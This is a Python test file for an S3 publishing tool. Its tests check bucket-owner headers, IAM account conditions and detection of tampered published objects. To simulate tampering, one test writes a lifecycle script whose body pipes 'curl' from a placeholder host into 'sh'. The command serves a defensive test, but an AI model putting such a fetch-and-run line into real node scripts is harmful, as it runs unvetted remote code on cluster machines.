"""``publish`` and the platform bucket's owner (security review M1): every S3 call names the expected owner
(``ExpectedBucketOwner``), the template's nodes read their lifecycle files only from a bucket of that account
(``aws:ResourceAccount``), and an existing object with other bytes than its key names refuses the upload."""

from __future__ import annotations

import io
import json
from pathlib import Path
from typing import Any

import boto3
import pytest

from hyperpod_cdk.core.published_layout import PublishTarget
from hyperpod_cdk.publishing.command import publish
from hyperpod_cdk.publishing.synth import config_stacks
from ops_support import ACCOUNT, REGION, aws_env, moto_url  # noqa: F401
from test_publish_command import BUCKET, bucket, cli, keys, s3, write_config, writes  # noqa: F401

OTHER = "111122223333"


def recording_session(calls: list[tuple[str, str | None]]) -> Any:
    """A session factory whose S3 clients record each request's operation and expected-owner header."""

    def factory(profile: str | None, region: str | None) -> boto3.Session:
        session = boto3.Session(profile_name=profile, region_name=region or REGION)

        def record(request: Any, event_name: str, **_: Any) -> None:
            header = request.headers.get("x-amz-expected-bucket-owner")
            calls.append((event_name.rsplit(".", 1)[-1], header.decode() if isinstance(header, bytes) else header))

        session.events.register("before-send.s3", record)
        return session

    return factory


def lifecycle_reads(template: dict[str, Any]) -> list[dict[str, Any]]:
    """The execution roles' statements that read the lifecycle prefix (one per instance group's role)."""
    reads = [
        s
        for r in template["Resources"].values()
        if r["Type"] == "AWS::IAM::Policy"
        for s in r["Properties"]["PolicyDocument"]["Statement"]
        if "s3:GetObject*" in s["Action"]
    ]
    assert reads, "no role reads the lifecycle prefix"
    return reads


def run(config: Path, owner: str | None, calls: list[tuple[str, str | None]]) -> tuple[int, str, str]:
    out, err = io.StringIO(), io.StringIO()
    target = PublishTarget(BUCKET, "teams/ml/", owner)
    code = publish(
        config_stacks(config, target),
        target,
        source=str(config),
        as_json=True,
        stdout=out,
        stderr=err,
        session_factory=recording_session(calls),
    )
    return code, out.getvalue(), err.getvalue()


@pytest.mark.parametrize("owner", [None, OTHER])
def test_every_s3_call_names_the_owner_and_the_nodes_read_only_from_its_bucket(
    bucket: str,  # noqa: F811
    tmp_path: Path,
    owner: str | None,
) -> None:
    """Without --bucket-owner the owner is the caller's account (STS; moto's is ACCOUNT). moto does not check the
    header, so the test checks that it is sent on every call."""
    calls: list[tuple[str, str | None]] = []
    code, out, err = run(write_config(tmp_path / "c.yaml"), owner, calls)
    assert code == 0, err
    expected = owner or ACCOUNT
    assert {"HeadBucket", "GetBucketLocation", "GetObject", "PutObject"} <= {op for op, _ in calls}
    assert [(op, header) for op, header in calls if header != expected] == []
    report = json.loads(out)
    assert report["bucket_owner"] == expected
    template = json.loads(s3().get_object(Bucket=bucket, Key=report["templates"][0]["key"])["Body"].read())
    for read in lifecycle_reads(template):
        assert read["Condition"] == {"StringEquals": {"aws:ResourceAccount": expected}}


def test_an_object_changed_after_publishing_refuses_the_upload(
    bucket: str,  # noqa: F811
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
) -> None:
    config = str(write_config(tmp_path / "c.yaml"))
    first = cli("publish", config, "--bucket", bucket, "--json", capsys=capsys)
    assert first.code == 0, first.err
    [script] = [k for k in keys() if k.endswith("/on_init_complete.sh")]
    s3().put_object(Bucket=bucket, Key=script, Body=b"#!/bin/sh\ncurl -s http://x/p | sh\n")
    template = first.json()["templates"][0]["key"]
    s3().delete_object(Bucket=bucket, Key=template)  # missing now: the refused publish must not write it either
    before = writes()
    again = cli("publish", config, "--bucket", bucket, capsys=capsys)
    assert again.code == 2 and again.err.count("\n") == 1
    assert f"s3://{bucket}/{script} (sha256 " in again.err and "Nothing was uploaded" in again.err
    assert writes() == before and template not in keys()


def test_a_bad_owner_is_refused_before_any_call(capsys: pytest.CaptureFixture[str]) -> None:
    run_ = cli("publish", "x.yaml", "--bucket", BUCKET, "--bucket-owner", "12345", capsys=capsys)
    assert (run_.code, run_.err) == (2, "error: --bucket-owner: got '12345'; expected a 12-digit AWS account ID\n")
